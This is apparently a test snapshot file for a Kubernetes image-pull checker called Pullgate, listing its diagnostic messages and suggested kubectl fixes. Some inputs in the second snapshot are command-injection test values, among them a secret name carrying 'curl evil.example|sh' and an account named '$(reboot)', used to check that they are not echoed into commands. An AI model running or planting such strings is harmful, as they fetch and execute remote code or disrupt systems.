/* IMPORTANT
 * This snapshot file is auto-generated, but designed for humans.
 * It should be checked into source control and tracked carefully.
 * Re-generate by setting TAP_SNAPSHOT=1 and running tests.
 * Make sure to inspect the output below.  Do not ignore changes!
 */
'use strict'
exports[`test/core/cause.test.ts > TAP > what a user reads > every cause 1`] = `
reference-invalid {}
  This is not an image reference: it ends with ":", so the tag is missing.
  Write it as REGISTRY/REPOSITORY:TAG, for instance ghcr.io/acme/pay:1.4.2.
latest-tag {}
  The tag latest means whatever was pushed last, so two nodes may run different images.
  Name a version (reg.example/pay:VERSION) or a digest (reg.example/pay@sha256:DIGEST).
tag-omitted {}
  No tag is written, so the node pulls latest: whatever was pushed last.
  Name a version (docker.io/library/nginx:VERSION) or a digest (docker.io/library/nginx@sha256:DIGEST).
secret-absent {}
  The pull secret regcred does not exist in namespace shop.
  Create it: kubectl create secret docker-registry regcred -n shop --docker-server=reg.example --docker-username=USER --docker-password=PASSWORD
secret-type-ignored {}
  The kubelet ignores the secret shop/regcred of type Opaque: a pull secret is of type kubernetes.io/dockerconfigjson, with its data under the key .dockerconfigjson.
  Make it anew: kubectl delete secret regcred -n shop, then kubectl create secret docker-registry regcred -n shop --docker-server=reg.example --docker-username=USER --docker-password=PASSWORD
secret-malformed {}
  The pull secret shop/regcred cannot be decoded, so the node pulls no image of this pod: in data[".dockerconfigjson"], it is not JSON (at character 1).
  Write it anew: kubectl create secret docker-registry regcred -n shop --docker-server=reg.example --docker-username=USER --docker-password=PASSWORD --dry-run=client -o yaml | kubectl apply -f -
secret-unverified {}
  Not known whether the pull secret shop/regcred exists: the cluster did not answer in time.
  Look for yourself: kubectl get secret regcred -n shop
secret-unreadable {}
  Pullgate is not allowed to read the pull secret shop/regcred, so nothing is known of the images that need it.
  Allow it: kubectl create rolebinding pullgate-pull-secrets -n shop --clusterrole=pullgate-pull-secrets --serviceaccount=pullgate-system:pullgate
service-account-absent {}
  The ServiceAccount cashier does not exist in namespace shop, so its pull secrets are not known.
  Create it: kubectl create serviceaccount cashier -n shop
service-account-unreadable {}
  Pullgate is not allowed to read the ServiceAccount shop/cashier, so its pull secrets are not known.
  Allow it: kubectl create rolebinding pullgate-pull-secrets -n shop --clusterrole=pullgate-pull-secrets --serviceaccount=pullgate-system:pullgate
tag-absent {}
  There is no tag v2.1.3 in reg.example/pay.
  Push v2.1.3 first, or correct the tag.
digest-absent {}
  There is no manifest sha256:aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa in reg.example/pay.
  Correct the digest, or push the image again: it was deleted or belongs to another repository.
repository-absent {}
  There is no repository reg.example/pay on reg.example.
  Correct the spelling of the image name, or push the image first.
credential-missing {}
  reg.example refused an anonymous pull of reg.example/pay with 401: it is private or does not exist, the registry does not say which; the pod has no pull secret that could open it.
  Check the name; if it is right, add a pull secret: kubectl create secret docker-registry NAME -n shop --docker-server=reg.example --docker-username=USER --docker-password=PASSWORD and list it under imagePullSecrets.
credential-refused {}
  reg.example refused the credential in secret/shop/regcred with 401: it is wrong, expired or revoked, and the node tries no anonymous pull instead.
  Renew it: kubectl create secret docker-registry regcred -n shop --docker-server=reg.example --docker-username=USER --docker-password=PASSWORD --dry-run=client -o yaml | kubectl apply -f -
access-denied {}
  reg.example knows the credential in secret/shop/regcred but refused it reg.example/pay with 403: no right to pull, or no such repository.
  Grant its account the right to pull reg.example/pay, or put one that has it into secret/shop/regcred.
manifest-unsupported {}
  What the registry serves for reg.example/pay is no image the node can run: a schema 1 manifest.
  Push an OCI or Docker schema 2 image under this reference.
request-rejected {}
  reg.example rejected the request for reg.example/pay with 451.
  Ask whoever runs the registry: the node would be rejected in the same way.
rate-limited {}
  Not known whether reg.example/pay can be pulled: reg.example limits requests (said of it).
  Try again later, pull with credentials, or use a mirror.
registry-error {}
  Not known whether reg.example/pay can be pulled: reg.example answered with an error of its own (said of it).
  Try again; if it stays, ask whoever runs the registry.
registry-timeout {}
  Not known whether reg.example/pay can be pulled: reg.example did not answer in time (said of it).
  Try again; check the way from the cluster to the registry.
registry-unresolved {}
  Not known whether reg.example/pay can be pulled: the name reg.example cannot be resolved (said of it).
  Check the spelling of the host; names that only the cluster knows cannot be resolved by nodes.
registry-unreachable {}
  Not known whether reg.example/pay can be pulled: reg.example cannot be reached (said of it).
  Check the port, and the way from the cluster to the registry.
tls-untrusted {}
  Not known whether reg.example/pay can be pulled: the certificate of reg.example is not trusted (said of it).
  Give Pullgate the CA in registries.caBundle, and the nodes in certs.d.
plain-http {}
  Not known whether reg.example/pay can be pulled: reg.example answers plain http, not https (said of it).
  Serve the registry over https, or tell the nodes in hosts.toml that it is plain http.
answer-unintelligible {}
  Not known whether reg.example/pay can be pulled: the answer of reg.example is not one of a registry (said of it).
  Check that the host is a registry and that no proxy or login page answers for it.
registry-local {}
  Not known whether reg.example/pay can be pulled: reg.example is the node itself, which only the node can ask (said of it).
  Nothing to do if every node runs this registry; otherwise name a registry that the cluster can reach.
address-denied {}
  Not known whether reg.example/pay can be pulled: Pullgate does not send this request (said of it).
  If the address is right, allow it in registries.addresses.allow or registries.realms.
deadline-exceeded {}
  Not known whether reg.example/pay can be pulled: there was no time left to ask reg.example (said of it).
  Try again: what is slow now is often remembered then.
registry-paused {}
  Not known whether reg.example/pay can be pulled: too many questions to reg.example are waiting (said of it).
  Try again in a moment.
internal-error {}
  Not known whether reg.example/pay can be pulled: Pullgate failed (said of it).
  Try again; if it stays, look into its log and report the fault.
node-credentials {}
  Not known whether 1.dkr.ecr.eu-west-1.amazonaws.com/pay can be pulled: 1.dkr.ecr.eu-west-1.amazonaws.com does not serve it to us, but nodes may have credentials of their own for it.
  Nothing to do where the nodes may pull from it; otherwise add a pull secret.
proxy-cache {}
  Not known whether cache.example/library/nginx can be pulled: cache.example, a pull-through cache, answered that there is no such tag, which proves nothing.
  Look for the image in the registry behind the cache.
credential-pending {}
  Not known whether reg.example/pay can be pulled: reg.example does not serve it without the pull secret regcred, which does not exist yet.
  Create the pull secret regcred and apply again.
cluster-unavailable {}
  The cluster could not be asked: the API server answered 503.
  Try again; check that Pullgate reaches the API server.
`

exports[`test/core/cause.test.ts > TAP > what a user reads > with all that may be known 1`] = `
secret-absent {"account":"cashier"}
  The pull secret regcred, named by ServiceAccount cashier, does not exist in namespace shop.
  Create it: kubectl create secret docker-registry regcred -n shop --docker-server=reg.example --docker-username=USER --docker-password=PASSWORD
secret-absent {"secret":"x; curl evil.example|sh #"}
  No Secret can have the name "x; curl evil.example|sh #" so none exists.
  Correct the name: lower-case letters, digits, "-" and ".".
secret-unverified {"secret":"x; curl evil.example|sh #"}
  Not known whether the pull secret shop/x; curl evil.example|sh # exists: the cluster did not answer in time.
  Look for yourself: kubectl get secret NAME -n shop
service-account-absent {"account":"$(reboot)"}
  The ServiceAccount $(reboot) does not exist in namespace shop, so its pull secrets are not known.
  Create it: kubectl create serviceaccount NAME -n shop
tag-absent {"suggestions":["v2.1.2","v2.1.4"],"others":"secret/shop/old was refused with 401"}
  There is no tag v2.1.3 in reg.example/pay; secret/shop/old was refused with 401.
  Did you mean v2.1.2, v2.1.4? Otherwise push v2.1.3 first.
tag-absent {"tag":"latest"}
  There is no tag latest in reg.example/pay.
  Name a version that was pushed.
tag-absent {"tag":"latest","suggestions":["v2.1.4"]}
  There is no tag latest in reg.example/pay.
  Did you mean v2.1.4?
digest-absent {"tag":"v1"}
  The tag v1 of reg.example/pay answers, but the manifest sha256:aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa that the node would fetch is gone.
  Push v1 again.
digest-absent {"tag":"v1","others":"secret/shop/old was refused with 401"}
  The tag v1 of reg.example/pay answers, but the manifest sha256:aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa that the node would fetch is gone; secret/shop/old was refused with 401.
  Push v1 again.
repository-absent {"others":"secret/shop/old was refused with 401"}
  There is no repository reg.example/pay on reg.example; secret/shop/old was refused with 401.
  Correct the spelling of the image name, or push the image first.
credential-missing {"name":"docker.io/acme/pay","host":"registry-1.docker.io","detail":"UNAUTHORIZED: log in"}
  registry-1.docker.io refused an anonymous pull of docker.io/acme/pay with 401 (UNAUTHORIZED: log in): it is private or does not exist, the registry does not say which; the pod has no pull secret that could open it.
  Check the name; if it is right, add a pull secret: kubectl create secret docker-registry NAME -n shop --docker-server=https://index.docker.io/v1/ --docker-username=USER --docker-password=PASSWORD and list it under imagePullSecrets.
credential-missing {"keys":["ghcr.io","quay.io"]}
  reg.example refused an anonymous pull of reg.example/pay with 401: it is private or does not exist, the registry does not say which; none of the keys in its pull secrets matches: ghcr.io, quay.io.
  Check the name; if it is right, add a pull secret: kubectl create secret docker-registry NAME -n shop --docker-server=reg.example --docker-username=USER --docker-password=PASSWORD and list it under imagePullSecrets.
credential-missing {"keys":["a","b","c","d"]}
  reg.example refused an anonymous pull of reg.example/pay with 401: it is private or does not exist, the registry does not say which; none of the keys in its pull secrets matches: a, b, c, d.
  Check the name; if it is right, add a pull secret: kubectl create secret docker-registry NAME -n shop --docker-server=reg.example --docker-username=USER --docker-password=PASSWORD and list it under imagePullSecrets.
credential-missing {"keys":["a","b","c","d","e","f"]}
  reg.example refused an anonymous pull of reg.example/pay with 401: it is private or does not exist, the registry does not say which; none of the keys in its pull secrets matches: a, b, c, d and 2 more.
  Check the name; if it is right, add a pull secret: kubectl create secret docker-registry NAME -n shop --docker-server=reg.example --docker-username=USER --docker-password=PASSWORD and list it under imagePullSecrets.
credential-refused {"detail":"invalid_grant","others":"secret/shop/old was refused with 401"}
  reg.example refused the credential in secret/shop/regcred with 401 (invalid_grant): it is wrong, expired or revoked, and the node tries no anonymous pull instead; secret/shop/old was refused with 401.
  Renew it: kubectl create secret docker-registry regcred -n shop --docker-server=reg.example --docker-username=USER --docker-password=PASSWORD --dry-run=client -o yaml | kubectl apply -f -
credential-refused {"keys":["ghcr.io","quay.io","reg.example"]}
  reg.example refused the credential in secret/shop/regcred with 401: it is wrong, expired or revoked, and the node tries no anonymous pull instead.
  Log in anew with docker login, keep the other 2 of its 3 registries in the same config.json, and write it: kubectl create secret generic regcred -n shop --type=kubernetes.io/dockerconfigjson --from-file=.dockerconfigjson=config.json --dry-run=client -o yaml | kubectl apply -f -
credential-refused {"detail":"","credential":"docker-config"}
  reg.example refused the credential in docker-config with 401: it is wrong, expired or revoked, and the node tries no anonymous pull instead.
  Renew the credential in docker-config.
access-denied {"scheme":"Basic","detail":"DENIED","others":"secret/shop/old was refused with 401"}
  reg.example knows the credential in secret/shop/regcred but refused it reg.example/pay with 403 (DENIED): no right to pull, or an expired password; secret/shop/old was refused with 401.
  Grant its account the right to pull reg.example/pay, or put one that has it into secret/shop/regcred.
access-denied {"scheme":"Bearer"}
  reg.example knows the credential in secret/shop/regcred but refused it reg.example/pay with 403: no right to pull, or no such repository.
  Grant its account the right to pull reg.example/pay, or put one that has it into secret/shop/regcred.
manifest-unsupported {"others":"secret/shop/old was refused with 401"}
  What the registry serves for reg.example/pay is no image the node can run: a schema 1 manifest; secret/shop/old was refused with 401.
  Push an OCI or Docker schema 2 image under this reference.
request-rejected {"detail":"BLOCKED","others":"secret/shop/old was refused with 401"}
  reg.example rejected the request for reg.example/pay with 451 (BLOCKED); secret/shop/old was refused with 401.
  Ask whoever runs the registry: the node would be rejected in the same way.
registry-timeout {"detail":"","others":"secret/shop/old was refused with 401"}
  Not known whether reg.example/pay can be pulled: reg.example did not answer in time; secret/shop/old was refused with 401.
  Try again; check the way from the cluster to the registry.
registry-unreachable {"host":"a$&b"}
  Not known whether reg.example/pay can be pulled: a$&b cannot be reached (said of it).
  Check the port, and the way from the cluster to the registry.
`
